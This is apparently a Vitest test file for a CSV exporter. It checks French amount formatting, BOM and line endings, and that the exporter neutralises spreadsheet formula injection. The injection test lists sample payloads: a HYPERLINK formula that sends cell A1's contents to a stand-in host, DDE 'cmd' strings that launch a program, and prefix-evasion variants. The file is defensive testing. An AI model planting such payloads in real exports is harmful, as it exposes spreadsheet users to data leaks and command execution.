import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import { csvAmount, csvFile } from './csv.ts';

const read = (text: string): string[][] => parse(text, { delimiter: ';', bom: true });

test('a French spreadsheet reads the file as it is', () => {
  const rows = [
    ['Entreprise', 'Montant'],
    ['Mairie d’Ajaccio ; « service » "eau"\nrez-de-chaussée', csvAmount(145_700)],
  ];
  const file = csvFile(rows);
  expect(file.startsWith('\ufeffEntreprise;Montant\r\n')).toBe(true);
  expect(read(file)).toEqual(rows);
});

test.each([
  [0, '0,00'],
  [5, '0,05'],
  [145_700, '1457,00'],
  [-49_440, '-494,40'],
])('%i cents are %s', (cents, amount) => {
  expect(csvAmount(cents)).toBe(amount);
  expect(csvFile([[amount]])).toBe(`\ufeff${amount}\r\n`);
});

test.each([
  '=HYPERLINK("https://evil.example?"&A1;"ouvrir")',
  "=cmd|' /C calc'!A0",
  '+33 4 95 10 00 00',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+9)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '|calc',
  '\u200b=1+1',
  '\u0000=1+1',
  '\ufeff=1+1',
  '＝1+1',
  '＠SUM(1+9)',
  '-1,5',
])('no spreadsheet runs %j', (text) => {
  const [[shown = '']] = read(csvFile([[text]])) as [[string]];
  expect(shown).toBe(`'${text}`);
});
